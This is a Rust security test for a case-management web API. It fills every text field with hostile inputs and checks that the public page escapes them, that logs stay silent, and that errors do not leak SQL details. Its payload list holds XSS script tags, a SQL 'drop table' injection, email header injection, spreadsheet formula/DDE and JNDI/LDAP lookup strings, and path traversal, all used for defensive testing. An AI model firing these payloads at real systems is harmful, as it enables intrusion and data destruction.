//! Whatever is written into whatever field: it is kept as it came or refused, never a fault, never
//! more than data, and the log does not repeat it.

use onedoor_domain::Country;
use onedoor_store::throwaway::execute;
use onedoor_testkit::{Actor, Database, TestApp, logs, on_both};
use serde_json::{Value, json};

use crate::contract::{Contract, Operation};
use crate::house::House;
use crate::kit::{text, version};
use crate::samples::{Field, fields, kind, pointer, with};
use crate::sending::{Attempt, is_from_a_session};
use crate::tally::Tally;
use crate::{long, nothing_found, say};

/// How many are tried on every field, even in the short form.
const ALWAYS: usize = 1;
/// Done last, because little can be done to a case after it.
const ENDS: [&str; 12] = [
    "answer_contribution",
    "cancel_contribution",
    "cancel_meeting",
    "dispose_cases",
    "erase_business",
    "erase_contact",
    "hold_meeting",
    "hand_over_case",
    "leave_staff",
    "merge_cases",
    "reopen_case",
    "withdraw_case",
];
/// A table whose absence every change of its kind meets as a fault.
const MISSING: [&str; 6] = [
    "note",
    "message",
    "contact_moment",
    "call_back",
    "event",
    "absence",
];

on_both!(
    fn any_text_in_any_field_is_data_or_refused(database: Database) {
        let app = &TestApp::spawn_with(database, &[Country::Dk]);
        let desk = Desk::of(app);
        let mut tally = Texts::default();
        let followed = desk.page(&mut tally);
        if !followed.contains("&lt;script") && !followed.contains("&#60;script") {
            tally.all.found.push(format!(
                "the page does not show what was written: {followed}"
            ));
        }
        let mut operations: Vec<&Operation> = desk.contract.operations.iter().collect();
        operations.sort_by_key(|one| ENDS.contains(&one.id.as_str()));
        for operation in operations {
            desk.texts(operation, &mut tally);
            desk.surrogates(operation, &mut tally);
        }
        app.work();
        let followed = desk.page(&mut tally).len();
        let lines = logs::told_nothing();
        assert!(lines > 0, "nobody listened");
        desk.faults(app, &mut tally);
        say(&format!(
            "{database:?}: {} texts in {} fields, {} kept, {} faults provoked, a page of {followed} \
             bytes, {lines} lines of log",
            tally.all.tried, tally.fields, tally.kept, tally.faults
        ));
        nothing_found(&tally.all.found);
        logs::told_nothing();
        assert!(tally.faults > 0, "nothing failed where a table was gone");
    }
);

#[derive(Default)]
struct Texts {
    fields: usize,
    kept: usize,
    faults: usize,
    all: Tally,
}

struct Desk {
    contract: Contract,
    house: House,
    /// A case opened by somebody with the worst of names, followed by this address.
    followed: String,
    anyone: Actor,
}

impl Desk {
    fn of(app: &TestApp) -> Self {
        let house = House::of(app, Country::Dk, "Xylofonhuset");
        let worst = format!("Xylofonhuset {SCRIPT}");
        let enquiry = json!({
            "channel": "phone",
            "subject": worst,
            "text": worst,
            "case_types": ["restaurant_cafe"],
            "business": { "name": worst },
            "contact": { "name": worst },
            "place": { "address": worst },
        });
        let opened = house.boss.register(&enquiry).opened();
        logs::listen_for(&text(&opened["tracking"]["code"]));
        // What the page shows of what people write is who coordinates.
        let person = format!("staff/{}", text(&opened["coordinator"]["id"]));
        let titled = house.admin.patch(&person);
        let titled = titled.header("If-Match", &version(&house.admin.get(&person)));
        titled.json(&json!({ "title": worst })).send().expect(200);
        let message = json!({"text": worst, "subject": worst});
        let case = text(&opened["case"]["id"]);
        let sent = house.boss.post(&format!("cases/{case}/messages"));
        sent.json(&message).send().expect(201);
        Self {
            contract: Contract::read(),
            house,
            followed: format!("/t/{}", text(&opened["tracking"]["code"])),
            anyone: app.anonymous(),
        }
    }

    fn texts(&self, operation: &Operation, tally: &mut Texts) {
        let Some(schema) = operation.takes_json() else {
            return;
        };
        for field in fields(&self.contract, schema) {
            if kind(field.schema) != "string" {
                continue;
            }
            tally.fields += 1;
            for (at, hostile) in hostile().iter().enumerate() {
                // In the short form each field gets its share, and all of them get all.
                if long() || at < ALWAYS || at % 6 == tally.fields % 6 {
                    self.try_text(operation, schema, &field, hostile, tally);
                }
            }
        }
    }

    fn try_text(
        &self,
        operation: &Operation,
        schema: &Value,
        field: &Field<'_>,
        hostile: &str,
        tally: &mut Texts,
    ) {
        let body = with(
            &self.contract,
            schema,
            &self.house.mine,
            &field.place,
            &json!(hostile),
        );
        let answer = self.bare(operation).json(&body).send();
        tally.kept += usize::from(answer.status < 300);
        let shown: String = hostile.chars().take(20).collect();
        let what = format!("{} {} {shown:?}", operation.id, pointer(&field.place));
        tally.all.sound(operation, &what, &answer);
        // Whatever fills the trap of the public form is thanked, and nothing is kept of it.
        let is_trap = operation.id == "send_form" && pointer(&field.place) == "/website";
        if hostile.contains('\0') && answer.status < 400 && !is_trap {
            tally
                .all
                .found
                .push(format!("{what} was taken: {}", answer.status));
        }
    }

    /// Half a character is no text.
    fn surrogates(&self, operation: &Operation, tally: &mut Texts) {
        let Some(schema) = operation.takes_json() else {
            return;
        };
        let texts = fields(&self.contract, schema).into_iter();
        for field in texts.filter(|field| kind(field.schema) == "string") {
            for half in ["\\ud800", "\\udc00 ", "\\ud800\\u0061"] {
                let place = json!("HALF");
                let kit = &self.house.mine;
                let body = with(&self.contract, schema, kit, &field.place, &place).to_string();
                let body = body.replace("\"HALF\"", &format!("\"{half}\""));
                let answer = self.bare(operation).raw(body).send();
                let what = format!("{} {} {half}", operation.id, pointer(&field.place));
                tally.all.sound(operation, &what, &answer);
                if answer.status != 400 && !is_from_a_session(operation) {
                    tally.all.found.push(format!("{what}: {}", answer.status));
                }
                if !long() {
                    break;
                }
            }
        }
    }

    /// The page of a case whose every word is an attack.
    fn page(&self, tally: &mut Texts) -> String {
        let page = self.anyone.get(&self.followed);
        let shown = page.text();
        if page.status != 200 || shown.contains("<script>") || shown.contains("<img") {
            tally
                .all
                .found
                .push(format!("the page is {}: {shown}", page.status));
        }
        shown.to_owned()
    }

    /// Where a table is gone every change that needs it fails inside: that is told to nobody.
    fn faults(&self, app: &TestApp, tally: &mut Texts) {
        for table in MISSING {
            let gone = format!("alter table {table} rename to {table}_gone");
            execute(&app.database_url(), &gone).unwrap();
        }
        for operation in &self.contract.operations {
            if operation.streams() {
                continue;
            }
            let kit = &self.house.mine;
            let seen = self.house.seen(operation, &self.house.mine);
            let slug = &self.house.slug;
            let attempt = Attempt {
                by: self.house.by(operation),
                slug,
                kit,
                seen: &seen,
            };
            let answer = attempt.send(&self.contract, operation);
            tally.faults += usize::from(answer.status == 500);
            let said = answer.text().to_lowercase();
            if answer.status >= 500
                && ["sql", "_gone", "relation", "table"]
                    .iter()
                    .any(|word| said.contains(word))
            {
                tally
                    .all
                    .found
                    .push(format!("{} tells of its inside: {said}", operation.id));
            }
        }
    }

    fn bare(&self, operation: &Operation) -> onedoor_testkit::Request {
        let seen = self.house.seen(operation, &self.house.mine);
        let (slug, kit) = (&self.house.slug, &self.house.mine);
        Attempt {
            by: self.house.by(operation),
            slug,
            kit,
            seen: &seen,
        }
        .bare(operation)
    }
}

/// What somebody writes who wants a page to run it.
const SCRIPT: &str = "<script>alert(1)</script><img src=x onerror=alert(1)>";

/// What is written; the first few into every field, always.
fn hostile() -> Vec<String> {
    let word = "Xylofonhuset";
    vec![
        format!("{word}\0"),
        format!("{word}{}", "x".repeat(100_000)),
        format!("{word} {SCRIPT}"),
        format!("{word}\u{202e}gniddaP\u{2066}"),
        format!("{word}\r\nBcc: alle@nygade.example"),
        format!("{word}\u{7}\u{1b}[31m\u{85}\u{2028}"),
        format!("{word}{}", "æ".repeat(289)),
        format!("=HYPERLINK(\"http://{word}.example\")"),
        format!("+{word}|' /C calc'!A0"),
        format!("{word}' or 1=1; drop table event; --"),
        format!("{word} {{{{7*7}}}} ${{jndi:ldap://{word}.example}} %s%n"),
        format!("../../../{word}"),
        format!("{word}\u{feff}\u{ffff}\u{200b}\u{1f1e9}\u{1f1f0}"),
        format!("{word}{}", "\u{301}".repeat(250)),
        "\u{200b}".to_owned(),
        String::new(),
        "null".to_owned(),
        format!("\"{word}\\"),
    ]
}
